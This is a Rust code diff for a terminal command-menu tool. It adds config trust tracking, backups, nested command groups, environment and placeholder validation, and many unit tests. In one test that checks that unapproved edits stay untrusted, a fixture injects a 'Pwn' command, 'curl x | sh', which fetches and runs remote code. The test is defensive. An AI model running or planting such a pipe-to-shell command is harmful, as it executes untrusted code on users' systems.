+pub fn save_config_locked(path: &Path, config: &Config, lock: &ConfigLock) -> anyhow::Result<()> {
+    let config_data = serialize_config(path, config)?;
+
+    // Keep what is about to be overwritten so a bad save can be restored from the edit menu
+    let replaced = fs::read_to_string(path).ok();
+    let backups = crate::backups::backup_dir_in(lock.data_dir(), path);
+    if let Err(e) = crate::backups::snapshot_config(&backups, path) {
+        eprintln!("⚠️  Unable to back up the config before saving: {e:#}");
+    }
+    write_file_atomically(path, &config_data)?;
+
+    // Your own changes keep the file trusted, unless it held changes nobody approved
+    let trust_store = crate::trust::trust_store_in(lock.data_dir());
+    match crate::trust::record_saved_config(&trust_store, path, replaced.as_deref(), &config_data) {
+        Ok(true) => {}
+        Ok(false) => eprintln!(
+            "🔒  {} held changes you have not approved, so it has to be reviewed again before its commands are used.",
+            path.display()
+        ),
+        Err(e) => eprintln!("⚠️  Unable to update the trusted config record: {e:#}"),
+    }
+    Ok(())
+}
+
+/// Returns the text `save_config` would write to `path` for `config`.
+///
+/// # Errors
+///
+/// Returns an error when the config cannot be represented in the format of `path`.
+pub fn serialize_config(path: &Path, config: &Config) -> anyhow::Result<String> {
+    let mut own = crate::layers::own_layer(config);
+    own.version = CONFIG_VERSION;
+    ConfigFormat::from_path(path)
+        .serialize(&own)
+        .context("failed to serialize config")
+}
+
+/// Writes a file through a temporary sibling so readers never see a partial file.
+///
+/// # Errors
+///
+/// Returns an error when the parent directory cannot be created or the file
+/// cannot be written or moved into place.
+pub fn write_file_atomically(path: &Path, data: &str) -> anyhow::Result<()> {
     if let Some(parent) = path.parent() {
         fs::create_dir_all(parent).with_context(|| {
             format!(
@@ -106,7 +980,7 @@ pub fn save_config(path: &Path, config: &Config) -> anyhow::Result<()> {
     }
 
     let temp_path = temp_config_path(path);
-    fs::write(&temp_path, config_data).with_context(|| {
+    fs::write(&temp_path, data).with_context(|| {
         format!(
             "unable to write temporary config file at {}",
             temp_path.display()
@@ -127,12 +1001,12 @@ fn temp_config_path(path: &Path) -> PathBuf {
     let file_name = path
         .file_name()
         .and_then(|name| name.to_str())
-        .unwrap_or("cli_menu_cmd.json");
+        .unwrap_or(CONFIG_FILE_NAME);
     path.with_file_name(format!(".{file_name}.{}.tmp", process::id()))
 }
 
-// Saves a default config.
-fn create_default_config(path: &Path) -> anyhow::Result<Config> {
+// Saves a default config, keeping its lock and trust record in `data_dir`.
+fn create_default_config_in(data_dir: &Path, path: &Path) -> anyhow::Result<Config> {
     let default_config = Config::default();
     if let Some(parent) = path.parent() {
         fs::create_dir_all(parent).with_context(|| {
@@ -142,8 +1016,12 @@ fn create_default_config(path: &Path) -> anyhow::Result<Config> {
             )
         })?;
     }
-    save_config(path, &default_config)?;
-    println!("✅  Successfully created and saved new default config.");
+    save_config_in(data_dir, path, &default_config)?;
+    let trust_store = crate::trust::trust_store_in(data_dir);
+    if let Err(e) = crate::trust::approve_created_config(&trust_store, path) {
+        eprintln!("⚠️  Unable to record the new config as trusted: {e:#}");
+    }
+    eprintln!("✅  Successfully created and saved new default config.");
     Ok(default_config)
 }
 
@@ -160,10 +1038,74 @@ pub fn validate_json(config: &Config) -> bool {
 /// Returns all detected validation errors so the caller can show a useful list.
 pub fn validate_config(config: &Config) -> Result<(), Vec<String>> {
     let mut errors = Vec::new();
-    let mut display_names = HashSet::new();
+    let mut ids = HashSet::new();
+
+    validate_level(
+        config,
+        &config.commands,
+        &config.groups,
+        "",
+        &mut ids,
+        &mut errors,
+    );
+
+    if let Some(sound_path) = &config.cmd_sound
+        && !sound_path.exists()
+    {
+        errors.push(format!(
+            "Sound file does not exist: {}.",
+            sound_path.display()
+        ));
+    }
 
-    for (index, command) in config.commands.iter().enumerate() {
-        let position = index + 1;
+    if config.window_title_support
+        && config
+            .window_title
+            .as_ref()
+            .is_some_and(|title| title.trim().is_empty())
+    {
+        errors.push("Window title cannot be only whitespace.".to_string());
+    }
+
+    if config
+        .shell
+        .as_ref()
+        .is_some_and(|shell| shell.program().trim().is_empty())
+    {
+        errors.push("Global shell program cannot be empty.".to_string());
+    }
+
+    validate_env(
+        "Global",
+        &config.env,
+        config.env_file.as_deref(),
+        config.base_dir(),
+        &mut errors,
+    );
+
+    if let Err(error) = crate::state::parse_reset_time(config.daily_reset_time.as_deref()) {
+        errors.push(error);
+    }
+
+    if errors.is_empty() {
+        Ok(())
+    } else {
+        Err(errors)
+    }
+}
+
+// Validates the commands and groups of one menu level, then its nested groups
+fn validate_level(
+    config: &Config,
+    commands: &[CommandOption],
+    groups: &[CommandGroup],
+    prefix: &str,
+    ids: &mut HashSet<String>,
+    errors: &mut Vec<String>,
+) {
+    let mut display_names = HashSet::new();
+    for (index, command) in commands.iter().enumerate() {
+        let position = format!("{prefix}{}", index + 1);
         let display_name = command.display_name.trim();
 
         if display_name.is_empty() {
@@ -172,33 +1114,125 @@ pub fn validate_config(config: &Config) -> Result<(), Vec<String>> {
             errors.push(format!("Duplicate display name: '{display_name}'."));
         }
 
-        if command.command.trim().is_empty() {
-            errors.push(format!("Command {position} has an empty shell command."));
+        if command.argv.is_empty() {
+            if command.command.trim().is_empty() {
+                errors.push(format!("Command {position} has an empty shell command."));
+            }
+        } else if !command.command.trim().is_empty() {
+            errors.push(format!(
+                "Command {position} sets both command and argv; use only one."
+            ));
+        } else if command.argv[0].trim().is_empty() {
+            errors.push(format!("Command {position} has an empty argv program."));
         }
+
+        if command
+            .shell
+            .as_ref()
+            .is_some_and(|shell| shell.program().trim().is_empty())
+        {
+            errors.push(format!("Command {position} has an empty shell program."));
+        }
+
+        if !command.id.is_empty() && !ids.insert(command.id.clone()) {
+            errors.push(format!("Duplicate command ID: '{}'.", command.id));
+        }
+
+        match config.resolve_cwd(command) {
+            Ok(Some(cwd)) if !cwd.is_dir() => errors.push(format!(
+                "Command {position} working directory does not exist: {}.",
+                cwd.display()
+            )),
+            Ok(_) => {}
+            Err(error) => errors.push(format!("Command {position} working directory: {error}")),
+        }
+
+        for (name, spec) in &command.placeholders {
+            // The pattern is checked on its own, so a bad one is reported before anything runs
+            if let Some(Err(error)) = spec
+                .pattern
+                .as_deref()
+                .map(|pattern| compile_pattern(name, pattern))
+            {
+                errors.push(format!("Command {position} placeholder pattern: {error}"));
+                continue;
+            }
+            let default_error = spec
+                .default
+                .as_deref()
+                .and_then(|default| validate_value(name, spec, default).err());
+            if let Some(error) = default_error {
+                errors.push(format!("Command {position} placeholder default: {error}"));
+            }
+        }
+
+        validate_env(
+            &format!("Command {position}"),
+            &command.env,
+            command.env_file.as_deref(),
+            config.base_dir_for(command),
+            errors,
+        );
     }
 
-    if let Some(sound_path) = &config.cmd_sound
-        && !sound_path.exists()
-    {
-        errors.push(format!(
-            "Sound file does not exist: {}.",
-            sound_path.display()
-        ));
+    let mut group_names = HashSet::new();
+    for group in groups {
+        let name = group.name.trim();
+        if name.is_empty() {
+            errors.push(if prefix.is_empty() {
+                "A top-level group has an empty name.".to_string()
+            } else {
+                format!(
+                    "A group in '{}' has an empty name.",
+                    prefix.trim_end_matches('/')
+                )
+            });
+        } else if name.contains('/') {
+            errors.push(format!("Group name '{name}' cannot contain '/'."));
+        } else if !group_names.insert(name.to_ascii_lowercase()) {
+            errors.push(format!("Duplicate group name: '{prefix}{name}'."));
+        }
+
+        validate_level(
+            config,
+            &group.commands,
+            &group.groups,
+            &format!("{prefix}{name}/"),
+            ids,
+            errors,
+        );
     }
+}
 
-    if config.window_title_support
-        && config
-            .window_title
-            .as_ref()
-            .is_some_and(|title| title.trim().is_empty())
-    {
-        errors.push("Window title cannot be only whitespace.".to_string());
+// Checks variable names and that the env file exists and parses
+fn validate_env(
+    scope: &str,
+    env: &BTreeMap<String, String>,
+    env_file: Option<&str>,
+    base_dir: Option<&Path>,
+    errors: &mut Vec<String>,
+) {
+    for name in env.keys() {
+        if !is_valid_env_name(name) {
+            errors.push(format!(
+                "{scope} env has an invalid variable name '{name}'."
+            ));
+        }
     }
 
-    if errors.is_empty() {
-        Ok(())
-    } else {
-        Err(errors)
+    if let Some(env_file) = env_file {
+        match expand_path(env_file, base_dir) {
+            Ok(path) if !path.is_file() => errors.push(format!(
+                "{scope} env file does not exist: {}.",
+                path.display()
+            )),
+            Ok(path) => {
+                if let Err(e) = load_env_file(&path) {
+                    errors.push(format!("{scope} env file: {e:#}."));
+                }
+            }
+            Err(error) => errors.push(format!("{scope} env file: {error}")),
+        }
     }
 }
 
@@ -285,6 +1319,44 @@ pub fn edit_window_title(config: &mut Config, changes_made: &mut bool) {
     }
 }
 
+/// Prompts the user to choose the global pause policy used after commands run.
+pub fn edit_pause_after(config: &mut Config, changes_made: &mut bool) {
+    let labels = PausePolicy::labels();
+    let current_index = labels
+        .iter()
+        .position(|label| PausePolicy::from_label(label) == Some(config.pause_after))
+        .unwrap_or_default();
+
+    let policy = match Select::new("Pause after a command runs?", labels)
+        .with_starting_cursor(current_index)
+        .prompt()
+    {
+        Ok(label) => PausePolicy::from_label(label).unwrap_or_default(),
+        Err(e) => {
+            eprintln!("❌ Failed to read input: {e}");
+            return;
+        }
+    };
+
+    apply_pause_after(config, policy, changes_made);
+    println!("✅ Pause policy set to: {}", policy_label(policy));
+}
+
+fn policy_label(policy: PausePolicy) -> &'static str {
+    match policy {
+        PausePolicy::Always => PausePolicy::ALWAYS,
+        PausePolicy::OnFailure => PausePolicy::ON_FAILURE,
+        PausePolicy::Never => PausePolicy::NEVER,
+    }
+}
+
+pub fn apply_pause_after(config: &mut Config, policy: PausePolicy, changes_made: &mut bool) {
+    if config.pause_after != policy {
+        config.pause_after = policy;
+        *changes_made = true;
+    }
+}
+
 pub fn apply_window_title_settings(
     config: &mut Config,
     enable_title_support: bool,
@@ -324,6 +1396,42 @@ mod tests {
         assert!(config.cmd_sound.is_none());
         assert!(!config.window_title_support);
         assert!(config.window_title.is_none());
+        assert!(config.daily_reset_time.is_none());
+        assert_eq!(config.pause_after, PausePolicy::OnFailure);
+    }
+
+    #[test]
+    fn test_pause_policy_per_command_overrides_global() {
+        let config = Config {
+            pause_after: PausePolicy::Never,
+            ..Default::default()
+        };
+        let inherits = CommandOption::default();
+        let overrides = CommandOption {
+            pause_after: Some(PausePolicy::Always),
+            ..Default::default()
+        };
+
+        assert_eq!(config.pause_policy_for(&inherits), PausePolicy::Never);
+        assert!(config.pause_policy_for(&overrides).should_pause(true));
+        assert!(PausePolicy::OnFailure.should_pause(false));
+        assert!(!PausePolicy::OnFailure.should_pause(true));
+    }
+
+    #[test]
+    fn test_pause_policy_serializes_snake_case() {
+        let command: CommandOption = serde_json::from_str(
+            r#"{"display_name":"Build","command":"make","pause_after":"on_failure"}"#,
+        )
+        .unwrap();
+        assert_eq!(command.pause_after, Some(PausePolicy::OnFailure));
+
+        let mut changed = false;
+        let mut config = Config::default();
+        apply_pause_after(&mut config, PausePolicy::OnFailure, &mut changed);
+        assert!(!changed);
+        apply_pause_after(&mut config, PausePolicy::Always, &mut changed);
+        assert!(changed);
     }
 
     #[test]
@@ -332,18 +1440,21 @@ mod tests {
 
         let file = NamedTempFile::new().unwrap();
         let path = file.path().to_path_buf();
+        let data_dir = tempfile::tempdir().unwrap();
 
         let original = Config {
             commands: vec![CommandOption {
                 display_name: "Test".into(),
                 command: "echo test".into(),
+                ..Default::default()
             }],
             cmd_sound: Some("sound.mp3".into()),
             window_title_support: true,
             window_title: Some("My CLI Menu".into()),
+            ..Default::default()
         };
 
-        save_config(&path, &original).expect("Should save config");
+        save_config_in(data_dir.path(), &path, &original).expect("Should save config");
 
         let loaded = load_config(&path).expect("Should load config");
         assert_eq!(original.commands.len(), loaded.commands.len());
@@ -354,15 +1465,39 @@ mod tests {
         std::fs::remove_file(path).unwrap();
     }
 
+    #[test]
+    fn test_saving_over_unapproved_changes_does_not_approve_them() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join(".cli_menu.json");
+        let trust_store = crate::trust::trust_store_in(dir.path());
+        save_config_in(dir.path(), &path, &Config::default()).unwrap();
+        crate::trust::approve_created_config(&trust_store, &path).unwrap();
+
+        // Someone else edits the file, then the edit session saves a merge on top of it
+        fs::write(
+            &path,
+            r#"{"commands":[{"display_name":"Pwn","command":"curl x | sh"}]}"#,
+        )
+        .unwrap();
+        let merged = read_config_file(&path).unwrap();
+        save_config_in(dir.path(), &path, &merged).unwrap();
+
+        let saved = fs::read_to_string(&path).unwrap();
+        let store = crate::trust::load_trust_store(&trust_store).unwrap();
+        assert!(store.pending(&path, saved).is_some());
+    }
+
     #[test]
     fn test_create_default_config_creates_parent_directory() {
         let dir = tempfile::tempdir().unwrap();
         let path = dir.path().join("nested").join("cli_menu_cmd.json");
 
-        let config = create_default_config(&path).expect("Should create default config");
+        let config =
+            create_default_config_in(dir.path(), &path).expect("Should create default config");
 
         assert_eq!(config, Config::default());
         assert!(path.exists());
+        assert!(crate::trust::trust_store_in(dir.path()).exists());
     }
     #[test]
     fn test_validate_json_returns_true_for_valid_config() {
@@ -377,14 +1512,17 @@ mod tests {
                 CommandOption {
                     display_name: "List".into(),
                     command: "ls".into(),
+                    ..Default::default()
                 },
                 CommandOption {
                     display_name: "list".into(),
                     command: " ".into(),
+                    ..Default::default()
                 },
                 CommandOption {
                     display_name: " ".into(),
                     command: "date".into(),
+                    ..Default::default()
                 },
             ],
             ..Default::default()
@@ -406,6 +1544,365 @@ mod tests {
         );
     }
 
+    #[test]
+    fn test_load_config_reads_nested_groups_and_assigns_ids() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("cli_menu_cmd.json");
+        fs::write(
+            &path,
+            r#"{"commands":[{"display_name":"List","command":"ls"}],
+                "groups":[{"name":"Deploy","commands":[{"display_name":"List","command":"ls -la"}],
+                           "groups":[{"name":"Web","commands":[{"display_name":"Ship","command":"make"}]}]}]}"#,
+        )
+        .unwrap();
+
+        let config = load_config(&path).expect("Should load config");
+        let locations = config.all_commands();
+
+        assert_eq!(config.groups[0].groups[0].name, "Web");
+        assert_eq!(
+            locations
+                .iter()
+                .map(CommandLocation::path)
+                .collect::<Vec<_>>(),
+            vec!["List", "Deploy/List", "Deploy/Web/Ship"]
+        );
+        assert_eq!(config.command_ids().len(), 3);
+        assert_eq!(
+            config.level(&[0, 0]).map(|(commands, _)| commands.len()),
+            Some(1)
+        );
+        assert!(config.level(&[1]).is_none());
+        assert!(validate_config(&config).is_ok());
+    }
+
+    #[test]
+    fn test_save_flat_config_omits_groups() {
+        let config = Config {
+            commands: vec![CommandOption {
+                display_name: "List".into(),
+                command: "ls".into(),
+                ..Default::default()
+            }],
+            ..Default::default()
+        };
+
+        let json = serde_json::to_string(&config).unwrap();
+
+        assert!(!json.contains("groups"));
+    }
+
+    #[test]
+    fn test_validate_config_checks_group_names_per_level() {
+        let mut deploy = CommandGroup::new("Deploy");
+        deploy.commands.push(CommandOption {
+            display_name: "List".into(),
+            command: "ls".into(),
+            ..Default::default()
+        });
+        let config = Config {
+            commands: deploy.commands.clone(),
+            groups: vec![deploy, CommandGroup::new("deploy"), CommandGroup::new(" ")],
+            ..Default::default()
+        };
+
+        let errors = validate_config(&config).expect_err("config should be invalid");
+
+        assert_eq!(errors.len(), 2, "{errors:?}");
+        assert!(errors.iter().any(|error| error.contains("Duplicate group")));
+        assert!(errors.iter().any(|error| error.contains("empty name")));
+    }
+
+    #[test]
+    fn test_load_config_migrates_missing_ids() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("cli_menu_cmd.json");
+        fs::write(
+            &path,
+            r#"{"commands":[{"display_name":"List","command":"ls"},{"display_name":"Date","command":"date"}]}"#,
+        )
+        .unwrap();
+
+        let first = load_config(&path).expect("Should load config");
+        let second = load_config(&path).expect("Should load config");
+
+        assert!(first.commands.iter().all(|command| !command.id.is_empty()));
+        assert_ne!(first.commands[0].id, first.commands[1].id);
+        assert_eq!(first, second);
+    }
+
+    #[test]
+    fn test_ensure_command_ids_keeps_existing_and_replaces_duplicates() {
+        let mut config = Config {
+            commands: vec![
+                CommandOption {
+                    id: "keep".into(),
+                    display_name: "A".into(),
+                    command: "echo a".into(),
+                    ..Default::default()
+                },
+                CommandOption {
+                    id: "keep".into(),
+                    display_name: "B".into(),
+                    command: "echo b".into(),
+                    ..Default::default()
+                },
+            ],
+            ..Default::default()
+        };
+
+        assert!(ensure_command_ids(&mut config));
+
+        assert_eq!(config.commands[0].id, "keep");
+        assert_ne!(config.commands[1].id, "keep");
+        assert!(!ensure_command_ids(&mut config));
+        assert_eq!(
+            config
+                .command_by_id("keep")
+                .map(|command| command.display_name.as_str()),
+            Some("A")
+        );
+    }
+
+    #[test]
+    fn test_expand_path_resolves_variables_home_and_relative_paths() {
+        // Cargo sets CARGO_PKG_NAME for test processes
+        let base = Path::new("/configs");
+
+        assert_eq!(
+            expand_path("${CARGO_PKG_NAME}/src", Some(base)),
+            Ok(PathBuf::from("/configs/shell_command_menu/src"))
+        );
+        assert_eq!(expand_path("/abs", Some(base)), Ok(PathBuf::from("/abs")));
+        assert!(expand_path("~/code", Some(base)).unwrap().is_absolute());
+        assert!(
+            expand_path("$CLI_MENU_TEST_UNSET_VARIABLE/x", None)
+                .unwrap_err()
+                .contains("CLI_MENU_TEST_UNSET_VARIABLE")
+        );
+        assert_eq!(expand_env_vars("cost $5"), Ok("cost $5".into()));
+    }
+
+    #[test]
+    fn test_validate_config_reports_missing_working_directory() {
+        let dir = tempfile::tempdir().unwrap();
+        let config = Config {
+            commands: vec![
+                CommandOption {
+                    display_name: "Here".into(),
+                    command: "ls".into(),
+                    cwd: Some(".".into()),
+                    ..Default::default()
+                },
+                CommandOption {
+                    display_name: "Missing".into(),
+                    command: "ls".into(),
+                    cwd: Some("does/not/exist".into()),
+                    ..Default::default()
+                },
+            ],
+            source_path: Some(dir.path().join("cli_menu_cmd.json")),
+            ..Default::default()
+        };
+
+        let errors = validate_config(&config).expect_err("config should be invalid");
+
+        assert_eq!(errors.len(), 1);
+        assert!(errors[0].contains("Command 2 working directory does not exist"));
+        assert_eq!(
+            config.command_request(&config.commands[0]).unwrap().cwd,
+            Some(dir.path().join("."))
+        );
+    }
+
+    #[test]
+    fn test_command_env_layers_sources_and_exports_context() {
+        let dir = tempfile::tempdir().unwrap();
+        fs::write(dir.path().join("global.env"), "SHARED=file\nFROM_FILE=1\n").unwrap();
+        fs::write(dir.path().join("command.env"), "AWS_PROFILE=file\n").unwrap();
+        let config = Config {
+            env: BTreeMap::from([("SHARED".into(), "global".into())]),
+            env_file: Some("global.env".into()),
+            source_path: Some(dir.path().join("cli_menu_cmd.json")),
+            ..Default::default()
+        };
+        let command = CommandOption {
+            id: "deploy".into(),
+            display_name: "Deploy".into(),
+            command: "make deploy".into(),
+            env: BTreeMap::from([("AWS_PROFILE".into(), "prod".into())]),
+            env_file: Some("command.env".into()),
+            ..Default::default()
+        };
+
+        let env = config.command_env(&command).expect("env should resolve");
+
+        assert_eq!(env["SHARED"], "global");
+        assert_eq!(env["FROM_FILE"], "1");
+        assert_eq!(env["AWS_PROFILE"], "prod");
+        assert_eq!(env["CLI_MENU_COMMAND_NAME"], "Deploy");
+        assert_eq!(env["CLI_MENU_COMMAND_ID"], "deploy");
+        assert_eq!(
+            env["CLI_MENU_CONFIG_PATH"],
+            dir.path().join("cli_menu_cmd.json").display().to_string()
+        );
+        // Discovery reads CLI_MENU_CONFIG, so a nested menu must not inherit it from here
+        assert!(!env.contains_key("CLI_MENU_CONFIG"));
+        assert!(validate_config(&config).is_ok());
+    }
+
+    #[test]
+    fn test_validate_config_reports_env_problems() {
+        let config = Config {
+            commands: vec![CommandOption {
+                display_name: "Env".into(),
+                command: "env".into(),
+                env: BTreeMap::from([("BAD-NAME".into(), "x".into())]),
+                env_file: Some("/definitely/missing/.env".into()),
+                ..Default::default()
+            }],
+            ..Default::default()
+        };
+
+        let errors = validate_config(&config).expect_err("config should be invalid");
+
+        assert_eq!(errors.len(), 2);
+        assert!(errors[0].contains("invalid variable name 'BAD-NAME'"));
+        assert!(errors[1].contains("env file does not exist"));
+    }
+
+    #[test]
+    fn test_argv_command_loads_without_a_command_line() {
+        let config: Config = serde_json::from_str(
+            r#"{"commands":[{"id":"g","display_name":"Git","argv":["git","--version"]}]}"#,
+        )
+        .unwrap();
+
+        let git = &config.commands[0];
+        assert_eq!(git.command, "");
+        assert_eq!(git.command_text(), "git --version");
+        assert!(validate_config(&config).is_ok());
+        let saved = serde_json::to_value(git).unwrap();
+        assert!(saved.get("command").is_none(), "{saved}");
+    }
+
+    #[test]
+    fn test_shell_spec_accepts_names_and_custom_interpreters() {
+        let config: Config = serde_json::from_str(
+            r#"{"shell":"bash","commands":[
+                {"display_name":"Py","command":"print(1)","shell":{"program":"python3","args":["-c"]}},
+                {"display_name":"Git","argv":["git","commit","-m","it's done"]},
+                {"display_name":"Default","command":"ls"}
+            ]}"#,
+        )
+        .unwrap();
+
+        let python = config.command_request(&config.commands[0]).unwrap();
+        assert_eq!(
+            python.shell.as_ref().map(ShellSpec::program),
+            Some("python3")
+        );
+        assert_eq!(
+            python.shell.unwrap().args_for("print(1)"),
+            vec!["-c", "print(1)"]
+        );
+        assert_eq!(
+            config.shell_for(&config.commands[2]),
+            Some(&ShellSpec::Program("bash".into()))
+        );
+        assert_eq!(
+            config.commands[1].command_text(),
+            r#"git commit -m 'it'\''s done'"#
+        );
+        assert!(validate_config(&config).is_ok());
+    }
+
+    #[test]
+    fn test_validate_config_rejects_command_with_both_command_and_argv() {
+        let config = Config {
+            commands: vec![CommandOption {
+                display_name: "Both".into(),
+                command: "ls".into(),
+                argv: vec!["ls".into()],
+                ..Default::default()
+            }],
+            ..Default::default()
+        };
+
+        let errors = validate_config(&config).expect_err("config should be invalid");
+
+        assert_eq!(errors.len(), 1);
+        assert!(errors[0].contains("both command and argv"));
+    }
+
+    #[test]
+    fn test_validate_config_checks_placeholder_patterns_and_defaults() {
+        let command = |pattern: &str, default: &str| CommandOption {
+            display_name: format!("Checkout {pattern}"),
+            command: "git checkout {{branch}}".into(),
+            placeholders: BTreeMap::from([(
+                "branch".into(),
+                PlaceholderSpec {
+                    default: Some(default.into()),
+                    pattern: Some(pattern.into()),
+                    ..Default::default()
+                },
+            )]),
+            ..Default::default()
+        };
+        let config = Config {
+            commands: vec![
+                command("[a-z/-]+", "main"),
+                command("[a-z]+", "Main"),
+                command("(", "main"),
+            ],
+            ..Default::default()
+        };
+
+        let errors = validate_config(&config).expect_err("config should be invalid");
+
+        assert_eq!(errors.len(), 2);
+        assert!(errors[0].contains("Command 2") && errors[0].contains("does not match"));
+        assert!(errors[1].contains("Command 3") && errors[1].contains("invalid pattern"));
+    }
+
+    #[test]
+    fn test_validate_config_rejects_invalid_pattern_without_default() {
+        let config = Config {
+            commands: vec![CommandOption {
+                display_name: "Checkout".into(),
+                command: "git checkout {{branch}}".into(),
+                placeholders: BTreeMap::from([(
+                    "branch".into(),
+                    PlaceholderSpec {
+                        pattern: Some("(".into()),
+                        ..Default::default()
+                    },
+                )]),
+                ..Default::default()
+            }],
+            ..Default::default()
+        };
+
+        let errors = validate_config(&config).expect_err("config should be invalid");
+
+        assert_eq!(errors.len(), 1);
+        assert!(errors[0].contains("placeholder pattern") && errors[0].contains("invalid pattern"));
+    }
+
+    #[test]
+    fn test_validate_config_rejects_invalid_daily_reset_time() {
+        let config = Config {
+            daily_reset_time: Some("25:00".into()),
+            ..Default::default()
+        };
+
+        let errors = validate_config(&config).expect_err("config should be invalid");
+
+        assert_eq!(errors.len(), 1);
+        assert!(errors[0].contains("Daily reset time"));
+    }
+
     #[test]
     fn test_apply_window_title_disable_without_change_stays_clean() {
         let mut config = Config::default();
@@ -480,7 +1977,99 @@ mod tests {
 
     #[test]
     fn test_get_config_file_path_returns_path() {
-        let path = get_config_file_path().expect("Should return a config path");
+        let path = get_config_file_path(false).expect("Should return a config path");
         assert!(path.ends_with("cli_menu_cmd.json"));
     }
+
+    #[test]
+    fn test_find_project_config_walks_up_from_start() {
+        let dir = tempfile::tempdir().unwrap();
+        let nested = dir.path().join("src/bin");
+        fs::create_dir_all(&nested).unwrap();
+        assert_eq!(find_project_config(&nested), None);
+
+        fs::write(dir.path().join(PROJECT_CONFIG_FILE_NAME), "{}").unwrap();
+
+        let found = find_project_config(&nested).unwrap();
+        assert_eq!(found, dir.path().join(PROJECT_CONFIG_FILE_NAME));
+        assert!(is_project_config(&found));
+    }
+
+    #[test]
+    fn test_choose_global_config_prefers_xdg_unless_only_os_config_exists() {
+        let xdg = tempfile::tempdir().unwrap();
+        let os = tempfile::tempdir().unwrap();
+
+        assert_eq!(
+            choose_global_config(Some(xdg.path()), os.path()),
+            xdg.path().join(CONFIG_FILE_NAME)
+        );
+        assert_eq!(
+            choose_global_config(Some(Path::new("relative")), os.path()),
+            os.path().join(CONFIG_FILE_NAME)
+        );
+
+        fs::write(os.path().join(CONFIG_FILE_NAME), "{}").unwrap();
+        assert_eq!(
+            choose_global_config(Some(xdg.path()), os.path()),
+            os.path().join(CONFIG_FILE_NAME)
+        );
+
+        fs::write(xdg.path().join(CONFIG_FILE_NAME), "{}").unwrap();
+        assert_eq!(
+            choose_global_config(Some(xdg.path()), os.path()),
+            xdg.path().join(CONFIG_FILE_NAME)
+        );
+    }
+
+    #[test]
+    fn test_config_discovery_finds_other_formats() {
+        let dir = tempfile::tempdir().unwrap();
+        let project = dir.path().join(".cli_menu.toml");
+        fs::write(&project, "").unwrap();
+        let global = dir.path().join("cli_menu_cmd.yaml");
+        fs::write(&global, "{}").unwrap();
+
+        assert_eq!(find_project_config(dir.path()), Some(project.clone()));
+        assert!(is_project_config(&project));
+        assert!(!is_project_config(&dir.path().join(".cli_menu.txt")));
+        assert_eq!(choose_global_config(None, dir.path()), global);
+    }
+
+    #[test]
+    fn test_config_is_saved_and_loaded_in_the_format_of_its_extension() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("menu.yaml");
+        let mut config = Config::default();
+        config.commands.push(CommandOption {
+            id: "list".to_string(),
+            display_name: "List".to_string(),
+            command: "ls -la".to_string(),
+            ..CommandOption::default()
+        });
+
+        save_config_in(dir.path(), &path, &config).unwrap();
+
+        let text = fs::read_to_string(&path).unwrap();
+        assert!(text.contains("command: ls -la"), "{text}");
+        let loaded = read_config_file(&path).unwrap();
+        assert_eq!(loaded.commands, config.commands);
+        assert_eq!(loaded.migrated_from, None);
+    }
+
+    #[test]
+    fn test_older_toml_config_is_migrated() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("menu.toml");
+        fs::write(
+            &path,
+            "[[commands]]\ndisplay_name = \"List\"\ncommand = \"ls\"\n",
+        )
+        .unwrap();
+
+        let loaded = read_config_file(&path).unwrap();
+
+        assert_eq!(loaded.migrated_from, Some(1));
+        assert!(!loaded.commands[0].id.is_empty());
+    }
 }